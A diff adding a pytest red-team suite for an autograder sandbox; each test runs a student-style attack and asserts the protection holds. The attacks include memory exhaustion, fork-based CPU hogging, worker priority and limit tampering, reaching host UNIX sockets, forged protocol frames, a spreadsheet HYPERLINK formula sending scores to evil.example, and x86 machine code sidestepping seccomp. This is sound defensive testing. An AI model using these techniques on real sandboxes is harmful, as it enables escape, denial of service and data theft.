@@ -1,0 +1,568 @@
+"""Red team: attacks on the sandbox from a determined student, one per test.
+
+Each test ASSERTS THAT THE PROTECTION HOLDS: a failing test is a vulnerability. Each says which
+setting(s) it targets:
+
+    [R] as root (CI)              python -m pytest tests/test_red_team.py
+    [U] as an ordinary user       su tester -c "cd /work/main && /root/.pyenv/versions/3.11.7/bin/python -m pytest tests/test_red_team.py"
+    [D] Docker without namespaces python tests/support/no_namespaces.py -- python -m pytest tests/test_red_team.py
+
+Every attack runs in every setting; the tag says where it was seen to get through (or, for the
+attacks that held, where the layer that stops it matters). Each test cleans up after itself
+(its own sandboxes are closed, host SysV objects removed, sockets and folders deleted).
+"""
+from __future__ import annotations
+
+import ctypes
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import uuid
+
+import pytest
+
+from conftest import ROOT, notebook_with
+from autograder.sandbox import Sandbox, SandboxBroken, SandboxUnavailable, SubmissionFault
+
+GiB = 1024 ** 3
+MiB = 1024 ** 2
+
+
+@pytest.fixture(scope="module")
+def box():
+    sandbox = Sandbox(memory_bytes=GiB)
+    yield sandbox
+    sandbox.close()
+
+
+@pytest.fixture
+def fresh_box():
+    """A worker of its own, for attacks that may leave the worker damaged."""
+    sandbox = Sandbox(memory_bytes=GiB)
+    yield sandbox
+    sandbox.close()
+
+
+def run_in(child, code: str, timeout: float = 20.0):
+    """Run `code` (which sets RESULT) in `child`; return RESULT."""
+    child.request("exec", timeout, label="attack", source=code + "\ndef _result():\n    return RESULT\n")
+    return child.request("call", timeout, target=["name", "_result"])["result"]
+
+
+def attempt(sandbox, code: str, timeout: float = 20.0):
+    child = sandbox.spawn()
+    try:
+        return run_in(child, code, timeout)
+    finally:
+        child.close()
+
+
+# ================================================================== memory, disk and kernel objects
+
+SYSV_CREATE = '''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+RESULT = {"shm": libc.shmget(KEY, 1 << 20, 0o1000 | 0o666),
+          "msg": libc.msgget(KEY + 1, 0o1000 | 0o666),
+          "sem": libc.semget(KEY + 2, 1, 0o1000 | 0o666)}
+'''
+SYSV_FIND = '''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+RESULT = {"shm": libc.shmget(KEY, 0, 0), "msg": libc.msgget(KEY + 1, 0), "sem": libc.semget(KEY + 2, 0, 0)}
+'''
+
+
+def _remove_host_sysv(key: int) -> None:
+    """Remove what the attack left in this (host) IPC namespace, if anything."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    ipc_rmid = 0
+    if (i := libc.shmget(key, 0, 0)) >= 0:
+        libc.shmctl(i, ipc_rmid, None)
+    if (i := libc.msgget(key + 1, 0)) >= 0:
+        libc.msgctl(i, ipc_rmid, None)
+    if (i := libc.semget(key + 2, 0, 0)) >= 0:
+        libc.semctl(i, 0, ipc_rmid)
+
+
+def test_sysv_ipc_objects_do_not_outlive_the_child(fresh_box):
+    """[R U D] SysV shared memory, message queues and semaphores persist after their creator dies:
+    in the worker's IPC namespace until the job ends, and under Docker on the host forever. A
+    student can park gigabytes there (shmget/shmat/memset/shmdt, 256 MiB at a time, escapes
+    RLIMIT_AS) and leave a channel readable by every later student (mode 0666)."""
+    key = 0x5A000000 + (uuid.uuid4().int % 0xFFFFF) * 4
+    try:
+        made = attempt(fresh_box, f"KEY = {key}\n" + SYSV_CREATE)
+        left = attempt(fresh_box, f"KEY = {key}\n" + SYSV_FIND)
+        survivors = {kind: ident for kind, ident in left.items() if ident >= 0}
+        assert not survivors, f"created {made}; still there for the next student: {survivors}"
+    finally:
+        fresh_box.close()
+        _remove_host_sysv(key)
+
+
+SCRATCH_FILL = '''
+import os
+RESULT = {"written_mib": 0, "stopped_by": None}
+try:
+    for i in range(6):                       # 6 x 256 MiB (RLIMIT_FSIZE caps each file, not the total)
+        with open(f"fill{i}", "wb") as f:
+            block = b"x" * (16 << 20)
+            for _ in range(16):
+                f.write(block)
+                RESULT["written_mib"] += 16
+except OSError as exc:
+    RESULT["stopped_by"] = exc.strerror
+'''
+
+
+def test_scratch_files_cannot_exceed_the_memory_limit(box):
+    """[R U D] The scratch folder is on a tmpfs (bubblewrap's /tmp: RAM) or on the host's /tmp
+    (Docker): files written there do not count against RLIMIT_AS. With a 1 GiB limit a child
+    wrote 3 GiB in 6 s, and could go on until the machine runs out of memory or disk."""
+    got = attempt(box, SCRATCH_FILL, timeout=30)
+    assert got["written_mib"] < 1536, f"wrote {got['written_mib']} MiB to scratch with a 1 GiB memory limit"
+
+
+MEMFD_FILL = '''
+import os
+RESULT = {"written_mib": 0, "stopped_by": None}
+KEEP = []
+try:
+    for i in range(6):
+        fd = os.memfd_create(f"m{i}")
+        KEEP.append(fd)
+        block = b"x" * (16 << 20)
+        for _ in range(16):
+            os.write(fd, block)              # write(), not mmap: never counted in the address space
+            RESULT["written_mib"] += 16
+except OSError as exc:
+    RESULT["stopped_by"] = exc.strerror
+'''
+
+
+def test_memfd_memory_cannot_exceed_the_memory_limit(box):
+    """[R U D] memfd_create + write() puts anonymous shmem pages outside RLIMIT_AS."""
+    got = attempt(box, MEMFD_FILL, timeout=30)
+    assert got["written_mib"] < 1536, f"held {got['written_mib']} MiB in memfds with a 1 GiB memory limit"
+
+
+# ================================================================== the worker and classmates
+
+def test_a_student_cannot_change_the_workers_limits_priority_or_affinity(fresh_box):
+    """[U] (held as root and under Docker: other uid) As an ordinary user every child has the
+    worker's uid, so prlimit(2), setpriority(2) and sched_setaffinity(2) on the worker are
+    allowed (Landlock scopes signals, not these). Children inherit the worker's limits: a student
+    who lowers the worker's RLIMIT_AS makes every later classmate in the job fail with
+    'ran out of memory'; renicing it to 19 starves them under --jobs 2."""
+    probe = '''
+import os, resource
+RESULT = {"as": resource.getrlimit(resource.RLIMIT_AS)[0], "nice": os.getpriority(os.PRIO_PROCESS, 0),
+          "cpus": len(os.sched_getaffinity(0))}
+'''
+    before = attempt(fresh_box, probe)
+    attack = f'''
+import os, resource
+worker = os.getppid()
+RESULT = {{}}
+soft = resource.getrlimit(resource.RLIMIT_AS)[0]
+small = soft - {GiB} + (48 << 20)             # the worker's own size plus 48 MiB
+for name, action in [("prlimit", lambda: resource.prlimit(worker, resource.RLIMIT_AS, (small, small))),
+                     ("nice", lambda: os.setpriority(os.PRIO_PROCESS, worker, 19)),
+                     ("affinity", lambda: os.sched_setaffinity(worker, {{0}}))]:
+    try:
+        action()
+        RESULT[name] = "ALLOWED"
+    except OSError as exc:
+        RESULT[name] = "blocked: " + exc.strerror
+'''
+    tried = attempt(fresh_box, attack)
+    after = attempt(fresh_box, probe)
+    assert after["as"] >= before["as"] - 64 * MiB, (tried, before, after)
+    assert after["nice"] == before["nice"], (tried, before, after)
+    assert after["cpus"] == before["cpus"], (tried, before, after)
+
+
+def test_a_student_cannot_lock_later_classmates_out_of_the_scratch_root(fresh_box):
+    """[U] (held as root and under Docker) As an ordinary user bubblewrap's /tmp belongs to the
+    children's own uid, and Landlock does not govern chmod: os.chmod('/tmp', 0) makes every later
+    child fail to create its scratch folder, so every later student in the job scores 0 with
+    'autograder error (not the student's fault)'."""
+    attack = '''
+import os
+RESULT = {}
+for path in (os.path.dirname(os.getcwd()), "/tmp"):
+    try:
+        os.chmod(path, 0)
+        RESULT[path] = "ALLOWED"
+    except OSError as exc:
+        RESULT[path] = "blocked: " + exc.strerror
+'''
+    tried = attempt(fresh_box, attack)
+    try:
+        later = attempt(fresh_box, "RESULT = 'graded'\n")
+    except (SandboxUnavailable, SandboxBroken) as exc:
+        later = f"{type(exc).__name__}: {exc}"
+    assert later == "graded", (tried, later)
+
+
+HOG = '''
+import os, time
+if os.fork() == 0:                           # a manager, so this request returns at once
+    for _ in range(100):
+        if os.fork() == 0:
+            try:
+                os.setsid()                  # a session of its own: a scheduler autogroup of its own
+            except OSError:
+                pass
+            end = time.monotonic() + 8
+            while time.monotonic() < end:
+                pass
+            os._exit(0)
+    os._exit(0)
+RESULT = "started"
+'''
+VICTIM = '''
+import time
+def work():
+    started = time.monotonic()
+    total = 0
+    for i in range(2_000_000):
+        total += i
+    return time.monotonic() - started
+RESULT = None
+'''
+
+
+def test_a_cpu_hog_cannot_starve_a_classmate_graded_in_parallel(box):
+    """[R U D] With --jobs 2, student A's child forks 100 busy processes, each in a new session.
+    Each session is a scheduler autogroup of its own, so A takes ~100/101 of the CPU for as long as
+    A's budget lasts (300 s): classmate B in the other job runs 11x slower (measured) and times out
+    on exercises it would pass."""
+    other_job = Sandbox(memory_bytes=GiB)
+    victim = hog = None
+    try:
+        victim = other_job.spawn()
+        run_in(victim, VICTIM)
+        alone = min(victim.request("call", 20, target=["name", "work"])["result"] for _ in range(3))
+        hog = box.spawn()
+        run_in(hog, HOG)
+        time.sleep(1.5)                       # the busy processes are running
+        during = victim.request("call", 30, target=["name", "work"])["result"]
+        assert during < 4 * alone + 0.25, f"classmate's work took {during:.2f} s instead of {alone:.2f} s"
+    finally:
+        if hog is not None:
+            hog.close()
+        if victim is not None:
+            victim.close()
+        other_job.close()
+
+
+def test_sigio_cannot_be_aimed_at_the_worker_or_the_grader(fresh_box):
+    """[R U D] (held) F_SETOWN + O_ASYNC + F_SETSIG(SIGKILL) on the child's socket would have the
+    kernel signal the worker or the grader on every request. Landlock's signal scope stops it."""
+    child = fresh_box.spawn()
+    try:
+        attack = f'''
+import os, fcntl, signal
+RESULT = []
+for target in (os.getppid(), 1, {os.getpid()}, -{os.getpgid(0)}):
+    for fd in range(3, 32):
+        try:
+            fcntl.fcntl(fd, fcntl.F_SETOWN, target)
+            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
+            fcntl.fcntl(fd, 10, signal.SIGKILL)     # F_SETSIG
+            RESULT.append((target, fd))
+        except OSError:
+            pass
+'''
+        run_in(child, attack)
+        for _ in range(3):                      # each request makes the child's socket readable
+            child.request("call", 10, target=["name", "_result"])
+    finally:
+        child.close()
+    assert fresh_box._proc is not None and fresh_box._proc.poll() is None, "the worker was killed"
+    assert attempt(fresh_box, "RESULT = 'alive'\n") == "alive"
+
+
+# ================================================================== the network
+
+def _listen(path: str, kind: int):
+    s = socket.socket(socket.AF_UNIX, kind)
+    s.bind(path)
+    os.chmod(path, 0o777)
+    if kind == socket.SOCK_STREAM:
+        s.listen(4)
+    s.settimeout(0.2)
+    return s
+
+
+def test_host_unix_sockets_are_unreachable(box):
+    """[D] Landlock (ABI <= 7) does not govern connect() or sendto() on path-named UNIX sockets, and
+    the seccomp filter allows AF_UNIX sockets: under Docker the child reaches any socket on the host
+    (a Docker or containerd socket, D-Bus, X11, an ssh-agent, /dev/log). Held with bubblewrap,
+    whose filesystem has no host sockets."""
+    folder = tempfile.mkdtemp(prefix="red-team-sock-", dir="/tmp")
+    os.chmod(folder, 0o755)
+    stream_path, dgram_path = os.path.join(folder, "service.sock"), os.path.join(folder, "log.sock")
+    stream, dgram = _listen(stream_path, socket.SOCK_STREAM), _listen(dgram_path, socket.SOCK_DGRAM)
+    reached = []
+
+    def serve():
+        end = time.monotonic() + 15
+        while time.monotonic() < end and not stop.is_set():
+            try:
+                conn, _ = stream.accept()
+                reached.append("stream")
+                conn.sendall(b"hello from the host")
+                conn.close()
+            except OSError:
+                pass
+            try:
+                reached.append(dgram.recv(100).decode())
+            except OSError:
+                pass
+    stop = threading.Event()
+    server = threading.Thread(target=serve, daemon=True)
+    server.start()
+    try:
+        code = f'''
+import socket
+RESULT = {{}}
+try:
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect({stream_path!r})
+    RESULT["stream"] = "connected: " + s.recv(100).decode()
+except OSError as exc:
+    RESULT["stream"] = "blocked: " + exc.__class__.__name__
+try:
+    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"datagram", {dgram_path!r})
+    RESULT["dgram"] = "sent"
+except OSError as exc:
+    RESULT["dgram"] = "blocked: " + exc.__class__.__name__
+'''
+        got = attempt(box, code)
+        time.sleep(0.5)
+    finally:
+        stop.set()
+        server.join(5)
+        stream.close()
+        dgram.close()
+        shutil.rmtree(folder, ignore_errors=True)
+    assert not reached, f"the child reached host sockets: {got}, server saw {reached}"
+
+
+# ================================================================== credit without the work
+
+LESSON6 = "06_debugging_projection_reuse"
+PEEKING_TEST = '''def test_projections(mha_class):
+    # no behaviour tested at all: read the routing table the grader's classes carry
+    route = mha_class._qkv.__globals__["ROUTE"]
+    assert route[1] == "k_project" and route[2] == "v_project", "reuses q_project"
+'''
+
+
+def test_lesson06_credit_needs_a_behavioural_test(tmp_path):
+    """[R U D] The lesson-06 subjects are sent into the student's process, where a test can read
+    their module global ROUTE (or their source, via the executor it can monkeypatch) instead of
+    running them: full marks for test_projections without testing any behaviour."""
+    from autograder.grading import grade_student
+    nb = notebook_with(LESSON6, {"test_projections": PEEKING_TEST}, tmp_path / "student")
+    sandbox = Sandbox(memory_bytes=GiB)
+    try:
+        result = grade_student({LESSON6: nb}, sandbox, 10.0)
+    finally:
+        sandbox.close()
+    earned = sum(t["score"] for t in result["tests"] if "exercise:test_projections" in t["tags"])
+    assert earned == 0, f"a test that only reads ROUTE earned {earned} points"
+
+
+# ================================================================== untrusted files and frames
+
+def test_a_crafted_cell_costs_only_its_own_notebook(tmp_path):
+    """[R U D] ast.parse raises MemoryError (deep unary minus) or RecursionError (long attribute
+    chains) on a graded cell; notebook.defined_names catches only SyntaxError and ValueError, so
+    build_program raises and grade_student zeroes every lesson of the student, calling it an
+    autograder failure. Per-notebook containment (issue 10, part 4) does not hold."""
+    from autograder.grading import grade_student
+    folder = tmp_path / "student"
+    bad = notebook_with("01_scaled_dot_product_attention", {"softmax": "x = " + "-" * 100_000 + "1\n"}, folder)
+    good = folder / "02_masking.ipynb"
+    shutil.copy(ROOT / "solutions" / "02_masking.ipynb", good)
+    sandbox = Sandbox(memory_bytes=GiB)
+    try:
+        result = grade_student({"01_scaled_dot_product_attention": bad, "02_masking": good}, sandbox, 10.0)
+    finally:
+        sandbox.close()
+    masking = [t for t in result["tests"] if "lesson:02_masking" in t["tags"]]
+    assert masking and all(t["status"] == "passed" for t in masking), result.get("output", "")
+
+
+FIND_SOCKET = '''
+import os, socket, struct, time
+def _grader_socket():
+    for fd in range(3, 64):
+        try:
+            s = socket.socket(fileno=os.dup(fd))
+            if s.family == socket.AF_UNIX:
+                return s
+            s.detach()
+        except OSError:
+            pass
+    raise RuntimeError("no socket")
+'''
+FORGED = {
+    "array_index": b'{"value": {"ok": true, "value": {"$array": 5}}, "buffers": []}',
+    "float_junk": b'{"value": {"$dict": [["ok", true], ["value", {"$float": "junk"}]]}, "buffers": []}',
+    "handle_str": b'{"value": {"$dict": [["ok", true], ["value", {"$handle": "x"}]]}, "buffers": []}',
+    "class_node": b'{"value": {"$class": "X", "source": "import os"}, "buffers": []}',
+    "long_int": b'{"value": ' + b"9" * 5000 + b', "buffers": []}',
+    "negative_shape": b'{"value": null, "buffers": [["float64", [-1]]]}',
+    "dict_pairs": b'{"value": {"$dict": [[1]]}, "buffers": []}',
+    "not_a_reply": b'{"value": [1, 2, 3], "buffers": []}',
+}
+
+
+@pytest.mark.parametrize("kind", sorted(FORGED))
+def test_forged_reply_frames_cost_only_the_exercise(box, kind):
+    """[R U D] (held) Hand-written reply frames on the child's socket: any decoding trouble is a
+    crash of that exercise (SubmissionFault), never an exception of another kind in the grader."""
+    code = FIND_SOCKET + f'''
+def forge():
+    s = _grader_socket()
+    header = {FORGED[kind]!r}
+    s.sendall(struct.pack(">Q", len(header)) + header)
+    time.sleep(30)
+'''
+    child = box.spawn()
+    try:
+        child.request("exec", 10, label="forge", source=code)
+        with pytest.raises(SubmissionFault):
+            child.request("call", 5.0, target=["name", "forge"])
+    finally:
+        child.close()
+    assert attempt(box, "RESULT = 'alive'\n") == "alive"
+
+
+def test_gradescope_survives_a_crafted_upload(tmp_path):
+    """[R U D] (held) An upload with a FIFO, a link to /dev/zero, a link to the solutions, a folder
+    link loop, an old results.json and a file name with escape codes: the good notebook is graded,
+    the others cost only their lesson, results.json is the grader's, nothing raw reaches the log."""
+    sub = tmp_path / "submission"
+    sub.mkdir()
+    good = "01_scaled_dot_product_attention"
+    shutil.copy(ROOT / "solutions" / f"{good}.ipynb", sub / f"{good}.ipynb")
+    os.mkfifo(sub / "02_masking.ipynb")
+    (sub / "03_self_attention_head.ipynb").symlink_to("/dev/zero")
+    (sub / "04_worked_example.ipynb").symlink_to(ROOT / "solutions" / "04_worked_example.ipynb")
+    (sub / "loop").symlink_to(".")
+    (sub / "results.json").write_text('{"score": 999}')
+    (sub / "\x1b]0;pwned\x07\x1b[2J.ipynb").write_text("{}")
+    results = tmp_path / "results" / "results.json"
+    for p in (tmp_path, sub):
+        p.chmod(0o755)
+    env = dict(os.environ, PYTHONPATH=str(ROOT))
+    run = subprocess.run([sys.executable, "-m", "autograder.gradescope", "--submission", str(sub),
+                          "--results", str(results)], cwd=ROOT, capture_output=True, text=True,
+                         timeout=180, env=env)
+    assert run.returncode == 0, run.stderr[-2000:]
+    data = json.loads(results.read_text())
+    by_lesson: dict[str, list] = {}
+    for t in data["tests"]:
+        lesson = next(tag[7:] for tag in t["tags"] if tag.startswith("lesson:"))
+        by_lesson.setdefault(lesson, []).append(t)
+    assert by_lesson[good] and all(t["status"] == "passed" for t in by_lesson[good])
+    for lesson in ("02_masking", "03_self_attention_head", "04_worked_example"):
+        assert sum(t["score"] for t in by_lesson.get(lesson, [])) == 0, lesson
+    assert data["score"] == sum(t["score"] for t in by_lesson[good]) < 999
+    assert "\x1b" not in run.stdout + run.stderr
+
+
+def test_no_bidi_override_reaches_the_terminal_or_feedback(tmp_path):
+    """[R U D] (low) terminal_safe escapes C0/C1 controls but not Unicode bidi controls
+    (U+202E RIGHT-TO-LEFT OVERRIDE, U+2066..2069 isolates): a folder name or an exception message
+    can reorder the rest of a summary line (a score shown reversed, 'Trojan source' style)."""
+    klass = tmp_path / "class"
+    student = "eve\u202e8-8"
+    notebook_with("01_scaled_dot_product_attention",
+                  {"softmax": "def softmax(x, dim=-1):\n    raise ValueError('\\u202e\\u2066 8/8 all checks passed')\n"},
+                  klass / student)
+    shutil.copytree(klass / student, klass / "bob")
+    out = tmp_path / "out"
+    env = dict(os.environ, PYTHONPATH=str(ROOT))
+    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(klass), "--out", str(out),
+                          "--jobs", "1"], cwd=ROOT, capture_output=True, text=True, timeout=180, env=env)
+    assert run.returncode == 0, run.stderr[-2000:]
+    shown = run.stdout + run.stderr
+    feedback = "".join(p.read_text() for p in (out / "students").glob("*/feedback.md"))
+    for ch in ("\u202e", "\u2066"):
+        assert ch not in shown, "raw bidi control printed"
+        assert ch not in feedback, "raw bidi control in a feedback file"
+
+
+def test_grades_csv_cannot_carry_spreadsheet_formulas():
+    """[R U D] (low) A student folder name becomes the first cell of the student's row in
+    grades.csv, written as is: a name starting with = + - @ is a formula when the instructor opens
+    the file in a spreadsheet (a HYPERLINK that sends the classmates' scores away, DDE)."""
+    from autograder.classroom import grades_csv
+    import csv
+    import io
+    name = '=HYPERLINK("https://evil.example/?"&B3&C3,"open")'
+    text = grades_csv({name: {"score": 0.0, "max_score": 8.0, "tests": []},
+                       "bob": {"score": 8.0, "max_score": 8.0, "tests": []}})
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), text
+
+
+FOREIGN_ABI = r'''
+import ctypes, mmap, os, struct
+
+def _machine_code(code):
+    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    buf.write(code)
+    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(buf))), buf
+
+def _in_fork(code):
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        fn, buf = _machine_code(code)
+        os.write(w, str(fn()).encode())
+        os._exit(0)
+    os.close(w)
+    _, status = os.waitpid(pid, 0)
+    out = os.read(r, 100).decode()
+    os.close(r)
+    return out or ("killed by signal %d" % os.WTERMSIG(status))
+
+NEWUSER = struct.pack("<I", 0x10000000)
+RESULT = {
+    # int 0x80: the i386 table, where unshare is 310 (a filter written for x86_64 numbers misses it)
+    "i386 unshare": _in_fork(b"\x53\xb8" + struct.pack("<I", 310) + b"\xbb" + NEWUSER + b"\xcd\x80\x5b\x48\x63\xc0\xc3"),
+    # the x32 ABI: syscall number | 0x40000000
+    "x32 unshare": _in_fork(b"\xb8" + struct.pack("<I", 0x40000000 | 272) + b"\xbf" + NEWUSER + b"\x0f\x05\xc3"),
+}
+'''
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="x86_64 machine code")
+def test_seccomp_cannot_be_sidestepped_through_another_syscall_abi(box):
+    """[R U D] (held) unshare(CLONE_NEWUSER) through int 0x80 (i386 numbers) and through the x32
+    ABI: libseccomp's filter kills a process that uses a foreign ABI (SIGSYS). The control, a
+    worker with no seccomp, shows that the i386 call does create the namespace."""
+    got = attempt(box, FOREIGN_ABI)
+    assert all(v != "0" for v in got.values()), got
+    control = Sandbox(memory_bytes=GiB, mode="direct", landlock=False, seccomp=False, own_uid=False,
+                      allow_unsandboxed=True)
+    try:
+        opened = attempt(control, FOREIGN_ABI)
+        if not os.environ.get("AUTOGRADER_EXPECT_NO_NAMESPACES"):   # Docker's own filter refuses it too
+            assert opened["i386 unshare"] == "0", opened
+    finally:
+        control.close()
